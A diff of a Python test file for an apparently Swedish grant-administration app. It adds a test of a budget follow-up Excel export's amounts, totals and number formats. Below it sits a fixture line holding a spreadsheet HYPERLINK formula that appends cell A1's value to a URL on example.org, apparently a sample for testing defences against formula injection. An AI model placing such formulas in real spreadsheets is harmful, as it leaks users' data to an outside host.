@@ -171,6 +171,47 @@ def test_the_application_in_word_carries_its_totals_and_each_partys_signature(te
     ]
 
 
+def _sheet_rows(sheet) -> list[list]:
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def test_the_budget_follow_up_in_excel_has_typed_amounts_and_totals(tenant, agreement):
+    response = tenant.client(Role.AUDITOR).get(
+        f"/finansiering/insats/{agreement.intervention_id}/budgetuppfoljning.xlsx"
+    )
+    workbook = load_workbook(BytesIO(response.content))
+    budget = _sheet_rows(workbook["Budget"])
+    money = budget[
+        budget.index(
+            [
+                "År",
+                "Från samordningsförbundet",
+                "Egenfinansiering",
+                "Total kostnad",
+                "Beviljat",
+                None,
+                None,
+            ]
+        )
+        + 1 :
+    ]
+    assert [row[:5] for row in money] == [
+        [2021, 309600, 40000, 349600, 309000],
+        [2022, 816000, 160000, 976000, 816000],
+        ["Hela perioden", 1125600, 200000, 1325600, 1125000],
+    ]
+    amounts = [cell for row in workbook["Budget"].iter_rows(min_row=2) for cell in row[1:5]]
+    money_cells = [cell for cell in amounts if isinstance(cell.value, int | float)]
+    assert money_cells and all(cell.number_format == '#,##0 "kr"' for cell in money_cells)
+    line = next(row for row in workbook["Budget"].iter_rows() if row[5].value == 150)
+    assert (line[5].number_format, line[6].number_format) == ('0.0 "%"', '#,##0 "kr"')
+    assert line[6].data_type == "n"
+
+    utilisation = _sheet_rows(workbook["Utfall"])
+    assert utilisation[-1] == ["Hela perioden", 1125600, 1125000, 0, 0, 1125000, 0]
+    assert workbook["Utfall"]["C4"].number_format == '#,##0 "kr"'
+
+
 FORMULA = '=HYPERLINK("https://example.org/?d="&A1,"Öppna")'
 
 
